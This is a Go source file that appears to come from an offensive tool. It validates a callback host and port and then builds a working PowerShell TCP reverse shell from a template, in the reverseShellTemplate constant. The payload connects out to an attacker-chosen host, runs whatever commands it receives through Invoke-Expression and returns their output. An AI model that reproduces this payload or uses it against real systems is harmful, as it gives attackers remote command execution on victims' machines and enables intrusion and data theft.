package input

import (
	"fmt"
	"net/netip"
	"strings"

	"golang.org/x/net/idna"
)

const maxHostname = 253

// ValidateTarget checks a reverse-shell callback target: an IPv4 literal or
// a hostname, and a port in [1, 65535].
func ValidateTarget(host string, port int) error {
	if port < 1 || port > 65535 {
		return fmt.Errorf("%w: port %d out of range 1-65535", ErrInvalidTarget, port)
	}
	if err := validateHost(host); err != nil {
		return fmt.Errorf("%w: %v", ErrInvalidTarget, err)
	}
	return nil
}

func validateHost(host string) error {
	if host == "" {
		return fmt.Errorf("empty host")
	}
	if addr, err := netip.ParseAddr(host); err == nil {
		if !addr.Is4() {
			return fmt.Errorf("%q is not an IPv4 address", host)
		}
		return nil
	}

	ascii, err := idna.Lookup.ToASCII(strings.TrimSuffix(host, "."))
	if err != nil {
		return fmt.Errorf("invalid hostname %q: %v", host, err)
	}
	if len(ascii) > maxHostname {
		return fmt.Errorf("hostname %q longer than %d bytes", host, maxHostname)
	}

	labels := strings.Split(strings.ToLower(ascii), ".")
	for _, label := range labels {
		if len(label) == 0 || len(label) > 63 {
			return fmt.Errorf("invalid hostname %q", host)
		}
		if label[0] == '-' || label[len(label)-1] == '-' {
			return fmt.Errorf("invalid hostname %q", host)
		}
		for _, c := range label {
			if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-') {
				return fmt.Errorf("invalid hostname %q", host)
			}
		}
	}

	// A numeric top-level label means a malformed address such as 10.0.0.256.
	if isNumeric(labels[len(labels)-1]) {
		return fmt.Errorf("%q is not a valid IPv4 address", host)
	}
	return nil
}

func isNumeric(s string) bool {
	for _, c := range s {
		if c < '0' || c > '9' {
			return false
		}
	}
	return s != ""
}

// ReverseShell returns the PowerShell TCP reverse-shell stub for host:port.
// The target must already be validated.
func ReverseShell(host string, port int) string {
	return fmt.Sprintf(reverseShellTemplate, host, port)
}

const reverseShellTemplate = `$LHOST = "%s"; $LPORT = %d; ` +
	`$TCPClient = New-Object Net.Sockets.TCPClient($LHOST, $LPORT); ` +
	`$NetworkStream = $TCPClient.GetStream(); ` +
	`$StreamReader = New-Object IO.StreamReader($NetworkStream); ` +
	`$StreamWriter = New-Object IO.StreamWriter($NetworkStream); ` +
	`$StreamWriter.AutoFlush = $true; ` +
	`$Buffer = New-Object System.Byte[] 1024; ` +
	`while ($TCPClient.Connected) { ` +
	`while ($NetworkStream.DataAvailable) { $RawData = $NetworkStream.Read($Buffer, 0, $Buffer.Length); $Code = ([text.encoding]::UTF8).GetString($Buffer, 0, $RawData -1) }; ` +
	`if ($TCPClient.Connected -and $Code.Length -gt 1) { $Output = try { Invoke-Expression ($Code) 2>&1 } catch { $_ }; $StreamWriter.Write("$Output` + "`" + `n"); $Code = $null } }; ` +
	`$TCPClient.Close(); $NetworkStream.Close(); $StreamReader.Close(); $StreamWriter.Close()`
